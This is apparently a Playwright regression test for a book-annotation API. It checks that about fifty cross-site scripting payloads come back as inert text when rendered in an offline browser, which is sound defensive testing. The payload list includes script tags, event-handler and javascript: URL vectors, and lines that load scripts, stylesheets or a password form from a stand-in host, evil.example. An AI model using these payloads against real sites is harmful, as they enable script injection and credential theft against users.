import { chromium, type Browser, type Page } from 'playwright-core';
import { Factories } from '../factories/factories';
import { startHarness, type Harness } from '../harness';
import { CHROMIUM } from './chromium';
import { QUIET } from './quiet';

/** What has made scripts run in other people's rich texts. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><input name=password></form>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</br><script>alert(1)</script>',
  '<图片 n="1" onerror="alert(1)">',
  '<图片 n="1"><script>alert(1)</script>',
  '<图片 1="><script>alert(1)</script>">',
  '<tex></code><script>alert(1)</script></tex>',
  '<tex><img src=x onerror=alert(1)></tex>',
  'http://evil.example/"onmouseover="alert(1)',
  "http://evil.example/'onmouseover='alert(1)",
  'http://evil.example/<script>alert(1)</script>',
  'https://evil.example/?a=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)//http://evil.example/',
  'javascript://evil.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '＜script＞alert(1)＜/script＞',
  '<x contenteditable onblur=alert(1)>x',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
];

/** Elements, attributes and addresses that rendered text may have; anything else is active. */
const INSPECT = `(() => {
  const allowed = { A: ['href', 'rel'], IMG: ['src', 'alt'], BR: [], CODE: ['class'] };
  return [...document.querySelectorAll('#content *')].flatMap((element) => {
    const known = allowed[element.tagName];
    if (!known) return ['<' + element.tagName + '>'];
    return [...element.attributes]
      .filter(({ name, value }) => !known.includes(name) ||
        (['href', 'src'].includes(name) && !/^https?:\\/\\//.test(value)))
      .map(({ name, value }) => element.tagName + ' ' + name + '=' + value);
  });
})()`;

let harness: Harness;
let browser: Browser;
let page: Page;
let path: string;
let token: string;
beforeAll(async () => {
  harness = await startHarness();
  const make = new Factories(harness.database);
  token = await harness.token({ userId: (await make.aUser()).id });
  path = `/v2/book/${await make.aBook()}/annotations`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: QUIET });
  page = await (await browser.newContext({ offline: true })).newPage();
});
afterAll(async () => {
  await browser.close();
  await harness.close();
});

it.each(CORPUS)('an annotation shows %j as text', async (attack) => {
  const content = `before it ${attack} and after it`;
  const body = new URLSearchParams({ content, page: '1' });
  const made = await harness.call(path, { method: 'POST', token, body });
  expect(made.status).toBe(201);
  const answer = await harness.call(`/v2/book/annotation/${made.body.id}?format=html`);
  const html = String(answer.body.content);
  expect(html.startsWith('before it ')).toBe(true);

  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.setContent(`<!doctype html><div id="content">${html}</div>`);
  expect(await page.evaluate(INSPECT)).toEqual([]);
  expect(dialogs).toEqual([]);
});
